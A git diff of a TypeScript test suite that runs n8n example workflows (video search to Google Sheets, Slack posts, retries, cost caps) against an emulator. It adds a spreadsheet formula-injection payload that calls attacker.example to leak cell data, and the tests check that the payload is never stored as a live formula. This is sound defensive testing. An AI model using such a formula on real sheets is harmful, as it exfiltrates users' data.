@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { randomUUID } from 'node:crypto';
 import { describe, test } from 'node:test';
 
 import type { LedgerEntry } from '../../../emulator/emulator.mts';
@@ -9,12 +10,14 @@ import {
 	executeWorkflow,
 	executionsOf,
 	hasEnded,
+	retryExecution,
 } from '../harness/executions.mts';
 import type { Execution } from '../harness/executions.mts';
 import { changed, example, exampleNames } from '../harness/examples.mts';
 import { dataAccessTrigger, webhook } from '../harness/nodes.mts';
-import { outsideNodes, sha256, withStandIns } from '../harness/outside.mts';
+import { outsideNodes, withAccounts } from '../harness/outside.mts';
 import type { RegularMode } from '../harness/regularMode.mts';
+import { sha256 } from '../harness/sha256.mts';
 import { until } from '../harness/until.mts';
 import { activate, deactivate, saveWorkflow } from '../harness/workflows.mts';
 import type { Workflow } from '../harness/workflows.mts';
@@ -22,6 +25,19 @@ import { API_KEY } from '../harness/world.mts';
 
 /** An agent that calls the gateway by itself. */
 const WITHOUT_OUR_NODE = 'mcp-client-agent';
+
+/** A title that Google Sheets runs if it takes it for what a person typed. */
+const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
+
+const CHANNEL = new Set(['#research']);
+
+const SIMPLIFIED = ['id', 'url', 'title', 'text', 'authorId', 'authorName', 'createdAt'];
+SIMPLIFIED.push('likeCount', 'commentCount', 'mediaUrl');
+
+const VIDEO_ROW = ['keyword', 'id', 'title', 'author', 'createdAt', 'likes', 'image'];
+
+/** The sheet that retry-in-the-morning reads and writes. */
+const STATE_IN_QUESTIONS = { 'Write state': 'Read questions' };
 
 const TRIGGER_TYPES = ['n8n-nodes-base.manualTrigger', 'n8n-nodes-base.scheduleTrigger'];
 
@@ -33,19 +49,23 @@ function triggerOf(workflow: Workflow): string {
 
 /** Every workflow in examples/, imported and executed by n8n; the emulator is the only gateway. */
 export function testExamples(world: RegularMode): void {
-	async function run(workflow: Workflow): Promise<Execution> {
+	async function run(
+		workflow: Workflow,
+		trigger = triggerOf(workflow),
+		sameSheet: Record<string, string> = {},
+	): Promise<Execution> {
 		const { outside, rest } = world;
-		const saved = await saveWorkflow(rest, withStandIns(workflow, outside));
-		return await executeWorkflow(rest, saved, triggerOf(workflow));
+		const saved = await saveWorkflow(rest, withAccounts(workflow, outside, sameSheet));
+		return await executeWorkflow(rest, saved, trigger);
 	}
 
-	/** The example as it runs once it is active: a call from outside stands in for its schedule. */
-	function inProduction(name: string): Workflow {
-		const workflow = withStandIns(example(name), world.outside);
-		const nodes = workflow.nodes.map((node) =>
-			node.type.endsWith('.scheduleTrigger') ? { ...webhook(name), name: node.name } : node,
+	/** The workflow as it runs once it is active: a call from outside stands in for its schedule. */
+	function inProduction(workflow: Workflow): Workflow {
+		const ready = withAccounts(workflow, world.outside);
+		const nodes = ready.nodes.map((node) =>
+			node.type.endsWith('.scheduleTrigger') ? { ...webhook(randomUUID()), name: node.name } : node,
 		);
-		return { ...workflow, nodes };
+		return { ...ready, nodes };
 	}
 
 	function bought(): LedgerEntry[] {
@@ -113,7 +133,7 @@ export function testExamples(world: RegularMode): void {
 			const there = paths.filter((path) => path.endsWith('.jpg'));
 			assert.ok(there.length > 0 && there.length < 40);
 			assert.deepEqual(
-				outside.received('Upload to folder'),
+				outside.drive.files,
 				there.map((path) => ({
 					name: path.split('/').at(-1),
 					type: 'image/jpeg',
@@ -124,37 +144,6 @@ export function testExamples(world: RegularMode): void {
 			assert.match(hint, new RegExp(`${40 - there.length} of 40 files .* HTTP 404`));
 			assert.ok(emulator.mediaRequests.every(({ headers }) => !headers.authorization));
 			assert.equal(emulator.summary().charged, 0.03);
-		});
-
-		test('video-search-to-google-sheets', async () => {
-			fresh();
-			const execution = await run(example('video-search-to-google-sheets'));
-			assert.equal(execution.status, 'success', execution.error?.message);
-			const rows = world.outside.received('Add to sheet');
-			assert.equal(rows.length, 45);
-			assert.equal(new Set(rows.map(({ id }) => id)).size, 45);
-			assert.deepEqual(
-				rows.map(({ id }) => id),
-				bought().flatMap(({ recordIds }) => recordIds),
-			);
-			assert.deepEqual(
-				bought().map(({ input }) => [input.sort, input.publish_time, input.duration]),
-				Array(3).fill(['latest', 'day', 'all']),
-			);
-			assert.deepEqual(world.emulator.summary().duplicates, []);
-		});
-
-		test('video-search-to-google-sheets: page 2 fails', async () => {
-			fresh();
-			world.emulator.addFault({ kind: 'server', httpStatus: 500, match: { page: 2 } });
-			const execution = await run(example('video-search-to-google-sheets'));
-			assert.equal(execution.status, 'error');
-			assert.match(execution.error?.message ?? '', /charged/);
-			assert.deepEqual(
-				world.outside.received('Add to sheet').map(({ id }) => id),
-				bought()[0]?.recordIds,
-			);
-			assert.equal(world.emulator.ledger.length, 2);
 		});
 
 		test('article-comments-and-replies', async () => {
@@ -169,73 +158,72 @@ export function testExamples(world: RegularMode): void {
 				replies.map(({ input }) => input.content_id),
 				answered,
 			);
-			assert.ok(world.emulator.summary().charged <= 0.16);
+			assert.ok(world.emulator.summary().charged <= 0.17);
 		});
 
-		test('new-answers-to-slack', async () => {
+		test('new-videos-to-google-sheets', async () => {
 			fresh();
 			const { rest, outside, emulator } = world;
-			const workflow = await activate(world, inProduction('new-answers-to-slack'));
-			const first = await executeByWebhook(rest, workflow);
-			assert.equal(first.status, 'success', first.error?.message);
-			const texts = outside.received('Post to research').map(({ text }) => String(text));
-			assert.equal(texts.length, 20);
-			assert.ok(
-				texts.every((text) => !/undefined|null/.test(text)),
-				texts.find((text) => /undefined|null/.test(text)),
-			);
-			assert.deepEqual(
-				emulator.ledger.map(({ input }) => [input.limit, input.order]),
-				[[20, 'updated']],
-			);
-			const second = await executeByWebhook(rest, workflow);
-			assert.equal(second.status, 'success', second.error?.message);
-			assert.equal(outside.received('Post to research').length, 20, 'posted again');
-			assert.equal(emulator.summary().charged, 0.003);
-			assert.deepEqual(outside.received('Tell what failed'), []);
-		});
-
-		test('daily-posts-to-google-sheets', async () => {
-			fresh();
-			const { rest, outside, emulator } = world;
-			const user = '25025320';
-			emulator.setList('fetch_user_posts_v2', user, { size: 200 });
-			const workflow = await activate(world, inProduction('daily-posts-to-google-sheets'));
-			const added = async () => {
+			const hostile = changed(example('new-videos-to-google-sheets'), 'New videos', {
+				// The first character of an expression.
+				parameters: { keyword: `=${FORMULA}` },
+			});
+			const workflow = await activate(world, inProduction(hostile));
+			const ids = () => outside.sheets.rows('Add to sheet').map(({ id }) => id);
+			const bought = async () => {
 				const { status, error } = await executeByWebhook(rest, workflow);
 				assert.equal(status, 'success', error?.message);
-				const rows = outside.received('Add to sheet');
-				outside.forget();
-				return [rows.length, emulator.summary().calls];
+				return emulator.summary().calls;
 			};
-			assert.deepEqual(await added(), [100, 9]);
-			assert.deepEqual(await added(), [0, 10]);
-			emulator.changeList('fetch_user_posts_v2', user, { add: 2 });
-			assert.deepEqual(await added(), [2, 12]);
+			assert.equal(await bought(), 3);
+			assert.equal(ids().length, 45);
+			assert.deepEqual(outside.sheets.headings('Add to sheet'), SIMPLIFIED);
+			assert.equal(await bought(), 4);
+			emulator.changeList('fetch_search_videos', FORMULA, { add: 2 });
+			await bought();
+			assert.equal(ids().length, 47);
+			assert.equal(new Set(ids()).size, 47);
+			const titles = outside.sheets.rows('Add to sheet').map(({ title }) => String(title));
+			assert.ok(titles.some((title) => title.startsWith('=')));
+			assert.deepEqual(outside.sheets.formulas(), []);
 		});
 
-		test('new-videos-to-slack', async () => {
+		test('new-videos-to-google-sheets: Google fails, and Retry adds the videos', async () => {
 			fresh();
 			const { rest, outside, emulator } = world;
-			const workflow = example('new-videos-to-slack');
+			const workflow = await activate(world, inProduction(example('new-videos-to-google-sheets')));
+			outside.sheetsFail = true;
+			const failed = await executeByWebhook(rest, workflow);
+			assert.equal(failed.status, 'error');
+			outside.sheetsFail = false;
+			const { status, error } = await retryExecution(rest, failed, false);
+			assert.equal(status, 'success', error?.message);
+			assert.equal(outside.sheets.rows('Add to sheet').length, 45);
+			assert.equal(emulator.summary().calls, 3);
+		});
+
+		test('new-posts-to-slack', async () => {
+			fresh();
+			const { rest, outside, emulator } = world;
+			const workflow = withAccounts(example('new-posts-to-slack'), outside);
 			const nodes = workflow.nodes.map((node) =>
 				node.type.endsWith('Trigger')
 					? dataAccessTrigger(node.name, world.credentialId, node.parameters)
 					: node,
 			);
-			const watched = withStandIns({ ...workflow, nodes }, outside);
-			const active = await activate(world, watched);
+			const active = await activate(world, { ...workflow, nodes });
 			try {
-				await until('polls without a new video', 30, async () => emulator.ledger.length >= 2);
+				await until('polls without a new post', 30, async () => emulator.ledger.length >= 2);
 				assert.deepEqual(await executionsOf(rest, active), []);
-				emulator.changeList('fetch_search_videos', 'sourdough bread', { add: 2 });
-				await until('new videos', 60, async () => outside.received('Post to research').length > 0);
+				emulator.changeList('fetch_user_posts_v2', '25025320', { add: 12 });
 				await until('the end of the execution', 60, async () =>
 					(await executionsOf(rest, active)).some(hasEnded),
 				);
-				const texts = outside.received('Post to research').map(({ text }) => String(text));
-				assert.equal(texts.length, 2);
-				assert.ok(texts.every((text) => !/undefined|null/.test(text)));
+				assert.deepEqual(new Set(outside.messages.map(({ channel }) => channel)), CHANNEL);
+				const texts = outside.messages.map(({ text }) => text);
+				assert.equal(texts.length, 12);
+				for (const text of texts) assert.doesNotMatch(text, /undefined|null|[<>]|&(?!amp|lt|gt)/);
+				assert.match(texts.join(), /&lt;/);
 			} finally {
 				await deactivate(world, active);
 			}
@@ -254,7 +242,7 @@ export function testExamples(world: RegularMode): void {
 			const execution = await run(example('agent-research'));
 			assert.equal(execution.status, 'success', execution.error?.message);
 			assert.deepEqual(execution.json('Result'), [
-				{ answer: 'People like the first one most.', cost: 0.03 },
+				{ output: 'People like the first one most.', cost: 0.03 },
 			]);
 			assert.deepEqual(pages().sort(), [`${keyword} 1`, `${keyword} 1`]);
 			const [videos, images, again] = model
@@ -274,7 +262,7 @@ export function testExamples(world: RegularMode): void {
 			model.plays(...['rye', 'oat', 'corn', 'wheat', 'malt'].map(both), 'Enough.');
 			const execution = await run(example('agent-research'));
 			assert.equal(execution.status, 'success', execution.error?.message);
-			assert.deepEqual(execution.json('Result'), [{ answer: 'Enough.', cost: 0.09 }]);
+			assert.deepEqual(execution.json('Result'), [{ output: 'Enough.', cost: 0.09 }]);
 			assert.equal(emulator.summary().charged, 0.09);
 			assert.match(model.answers().at(-1)!, /Max Cost/);
 		});
@@ -305,117 +293,171 @@ export function testExamples(world: RegularMode): void {
 			assert.match(ran!, new RegExp(emulator.ledger[0]!.recordIds.join('.*')));
 		});
 
-		test('new-answers-to-slack: the balance is used up', async () => {
-			fresh();
-			world.emulator.addFault({ kind: 'refused', httpStatus: 402 });
-			const execution = await run(example('new-answers-to-slack'));
-			assert.equal(execution.status, 'success', execution.error?.message);
-			const told = world.outside.received('Tell what failed');
-			assert.equal(told.length, 1);
-			assert.match(String(told[0]?.text), /Calls made: 1, cost: 0 USD$/);
-			assert.deepEqual(world.outside.received('Post to research'), []);
-			assert.equal(world.emulator.ledger.length, 1);
-		});
-
 		test('many-keywords-from-a-sheet', async () => {
 			fresh();
-			const { emulator, outside } = world;
-			const keywords = ['kites', 'lanterns', 'broken', 'bridges', 'kites'];
-			outside.rows(
+			const { rest, outside, emulator } = world;
+			const { sheets, messages } = outside;
+			const workflow = await activate(world, inProduction(example('many-keywords-from-a-sheet')));
+			const keywords = ['kites', 'broken', FORMULA, 'bridges'];
+			sheets.fill(
 				'Read keywords',
 				keywords.map((keyword) => ({ keyword })),
 			);
-			emulator.addFault({ kind: 'refused', httpStatus: 404, match: { key: 'broken' } });
-			const execution = await run(example('many-keywords-from-a-sheet'));
-			assert.equal(execution.status, 'success', execution.error?.message);
-			const rows = outside.received('Write results');
+			emulator.addFault({
+				kind: 'refused',
+				httpStatus: 400,
+				match: { key: 'broken' },
+				times: null,
+			});
+			const week = async () => {
+				const before = emulator.ledger.length;
+				const { status, error } = await executeByWebhook(rest, workflow);
+				assert.equal(status, 'success', error?.message);
+				return emulator.ledger.slice(before).map(({ key }) => key);
+			};
+			const inOrder = (costs: ReadonlyArray<Record<string, unknown>>) =>
+				costs.toSorted(
+					(a, b) => keywords.indexOf(String(a.keyword)) - keywords.indexOf(String(b.keyword)),
+				);
+			await week();
+			assert.deepEqual(sheets.headings('Write videos'), VIDEO_ROW);
 			const delivered = keywords.filter((keyword) => keyword !== 'broken');
+			const videos = () => sheets.rows('Write videos');
 			assert.deepEqual(
-				rows.map(({ keyword }) => keyword),
-				delivered.flatMap((keyword) => Array<string>(20).fill(keyword)),
+				delivered.map((word) => videos().filter(({ keyword }) => keyword === word).length),
+				[20, 20, 20],
 			);
-			const failures = outside.received('Write failures');
+			for (const { keyword, id } of videos()) {
+				const entry = emulator.ledger.find(({ recordIds }) => recordIds.includes(String(id)));
+				assert.equal(entry?.key, keyword);
+			}
+			assert.ok(videos().some(({ title }) => String(title).startsWith('=')));
+			assert.deepEqual(sheets.formulas(), []);
 			assert.deepEqual(
-				failures.map(({ keyword }) => keyword),
-				['broken'],
-			);
-			assert.deepEqual(pages(), ['bridges 1', 'kites 1', 'lanterns 1']);
-			assert.equal(emulator.summary().charged, 0.045);
-		});
-
-		test('cost-report-to-google-sheets', async () => {
-			fresh();
-			const { emulator, outside } = world;
-			const keywords = ['kites', 'broken', 'lanterns', 'bridges'];
-			outside.rows(
-				'Read keywords',
-				keywords.map((keyword) => ({ keyword })),
-			);
-			emulator.addFault({ kind: 'refused', httpStatus: 400, match: { key: 'broken' } });
-			const one = { parameters: { maxCost: 0.03, options: { report: true, concurrency: 1 } } };
-			const execution = await run(
-				changed(example('cost-report-to-google-sheets'), 'Search images', one),
-			);
-			assert.equal(execution.status, 'success', execution.error?.message);
-			assert.deepEqual(
-				outside.received('Write costs').map(({ date, ...row }) => [typeof date, row]),
+				inOrder(sheets.rows('Write costs')).map(({ date: _, ...row }) => row),
 				[
-					['kites', 20, 1, 0.015, 'limit'],
-					['broken', 0, 1, 0, 'failure'],
-					['lanterns', 20, 1, 0.015, 'limit'],
-					['bridges', 0, 0, 0, 'maxCost'],
-				].map(([keyword, records, calls, cost, reason]) => [
-					'string',
-					{ keyword, records, calls, cost, reason },
-				]),
-			);
-			assert.equal(outside.received('Write results').length, 40);
-			const told = outside.received('Tell that money ran out').map(({ text }) => String(text));
-			assert.equal(told.length, 1);
-			assert.match(told[0]!, /Max Cost: 1\. This execution cost 0\.03 USD/);
-			assert.equal(emulator.summary().charged, 0.03);
-		});
-
-		test('resume-after-failure', async () => {
-			fresh();
-			const { emulator } = world;
-			emulator.addFault({ kind: 'server', httpStatus: 502, match: { page: 2 }, times: 2 });
-			const soon = { parameters: { amount: 1, unit: 'seconds' } };
-			const execution = await run(
-				changed(example('resume-after-failure'), 'Wait ten minutes', soon),
-			);
-			assert.equal(execution.status, 'success', execution.error?.message);
-			const answers = execution.json('Answers').map(({ id }) => id);
-			assert.equal(answers.length, 45);
-			assert.deepEqual(
-				answers,
-				bought().flatMap(({ recordIds }) => recordIds),
-			);
-			assert.equal(execution.runs('Go on from there').length, 2);
-			assert.deepEqual(
-				emulator.ledger.map(({ page, charged }) => [page, charged > 0]),
-				[
-					[1, true],
-					[2, false],
-					[2, false],
-					[2, true],
-					[3, true],
+					{ keyword: 'kites', records: 20, calls: 1, cost: 0.015, reason: 'limit' },
+					{ keyword: 'broken', records: 0, calls: 1, cost: 0, reason: 'failure' },
+					{ keyword: FORMULA, records: 20, calls: 1, cost: 0.015, reason: 'limit' },
+					{ keyword: 'bridges', records: 20, calls: 1, cost: 0.015, reason: 'limit' },
 				],
 			);
+			assert.equal(messages.length, 1);
+			assert.match(
+				messages[0]!.text,
+				/1 keywords were cut short: broken \(failure\).*cost \$0\.045/,
+			);
+
+			emulator.changeList('fetch_search_videos', 'bridges', { add: 3 });
+			await week();
+			assert.equal(videos().length, 63);
+			assert.equal(sheets.rows('Write costs').length, 8);
+			assert.equal(new Set(videos().map(({ id }) => id)).size, 63);
 		});
 
-		test('resume-after-failure: it never comes right', async () => {
+		test('many-keywords-from-a-sheet: shuffled, and cut short at the cap', async () => {
 			fresh();
-			const { emulator } = world;
-			emulator.addFault({ kind: 'server', httpStatus: 502, match: { page: 2 }, times: null });
-			const soon = { parameters: { amount: 1, unit: 'seconds' } };
-			const execution = await run(
-				changed(example('resume-after-failure'), 'Wait ten minutes', soon),
+			const { rest, outside, emulator } = world;
+			const keywords = Array.from({ length: 12 }, (_, index) => `keyword ${index}`);
+			const workflow = changed(example('many-keywords-from-a-sheet'), 'New videos', {
+				parameters: { maxCost: 0.15, options: { onlyNew: true, report: true, concurrency: 1 } },
+			});
+			outside.sheets.fill(
+				'Read keywords',
+				keywords.map((keyword) => ({ keyword })),
 			);
-			assert.equal(execution.status, 'error');
-			assert.match(execution.error?.message ?? '', /Resume From: \{.*\}/);
-			assert.equal(execution.json('Answers').length, 20);
-			assert.equal(emulator.ledger.length, 5);
+			const saved = await activate(world, inProduction(workflow));
+			const { status, error } = await executeByWebhook(rest, saved);
+			assert.equal(status, 'success', error?.message);
+			assert.equal(emulator.summary().charged, 0.15);
+			// One order in 12! is the sheet's own.
+			const asked = emulator.ledger.map(({ key }) => key);
+			assert.equal(new Set(asked).size, 10);
+			assert.notDeepEqual(asked, keywords.slice(0, 10));
+			const costs = outside.sheets.rows('Write costs');
+			assert.deepEqual(
+				costs
+					.filter(({ reason }) => reason === 'maxCost')
+					.map(({ keyword }) => keyword)
+					.sort(),
+				keywords.filter((keyword) => !asked.includes(keyword)).sort(),
+			);
+			assert.equal(outside.messages.length, 1);
+			assert.match(outside.messages[0]!.text, /2 keywords were cut short.*cost \$0\.15/);
+		});
+
+		test('retry-in-the-morning', async () => {
+			fresh();
+			const { outside, emulator } = world;
+			const { sheets, messages } = outside;
+			const questions = [19550225, 19550226, 19550227];
+			sheets.fill(
+				'Read questions',
+				questions.map((question) => ({ question })),
+			);
+			const at = async (time: string) => {
+				const { status, error } = await run(
+					example('retry-in-the-morning'),
+					time,
+					STATE_IN_QUESTIONS,
+				);
+				assert.equal(status, 'success', error?.message);
+				return sheets
+					.rows('Read questions')
+					.map(({ question, state, reason }) => [question, state, reason]);
+			};
+			const [first, second, third] = questions;
+			const down = (key: number) =>
+				emulator.addFault({
+					kind: 'server',
+					httpStatus: 502,
+					match: { key: String(key), page: 2 },
+				});
+			down(second!);
+			down(third!);
+			assert.deepEqual(await at('Every night at two'), [
+				[first, 'done', 'end'],
+				[second, 'open', 'failure'],
+				[third, 'open', 'failure'],
+			]);
+			assert.equal(sheets.rows('Add answers').length, 45 + 20 + 20);
+			assert.equal(messages.length, 0);
+
+			down(third!);
+			assert.deepEqual(await at('Every morning at seven'), [
+				[first, 'done', 'end'],
+				[second, 'done', 'end'],
+				[third, 'open', 'failure'],
+			]);
+			assert.equal(messages.length, 1);
+			assert.match(messages[0]!.text, /1 questions are still open: 19550227 \(failure\)/);
+
+			await at('Every night at two');
+			const answers = sheets.rows('Add answers').map(({ question, id }) => `${question} ${id}`);
+			assert.equal(answers.length, 3 * 45);
+			assert.equal(new Set(answers).size, 3 * 45);
+			assert.deepEqual(
+				pages(),
+				questions.flatMap((key) => [1, 2, 3].map((page) => `${key} ${page}`)),
+			);
+			assert.equal(messages.length, 1);
+			assert.deepEqual(sheets.formulas(), []);
+		});
+
+		test('retry-in-the-morning: the balance is used up', async () => {
+			fresh();
+			const { outside, emulator } = world;
+			outside.sheets.fill('Read questions', [{ question: '1' }, { question: '2' }]);
+			emulator.addFault({ kind: 'refused', httpStatus: 402, times: null });
+			const execution = await run(
+				example('retry-in-the-morning'),
+				'Every morning at seven',
+				STATE_IN_QUESTIONS,
+			);
+			assert.equal(execution.status, 'success', execution.error?.message);
+			assert.equal(emulator.summary().charged, 0);
+			assert.equal(outside.messages.length, 1);
+			assert.match(outside.messages[0]!.text, /2 questions are still open/);
 		});
 	});
 }
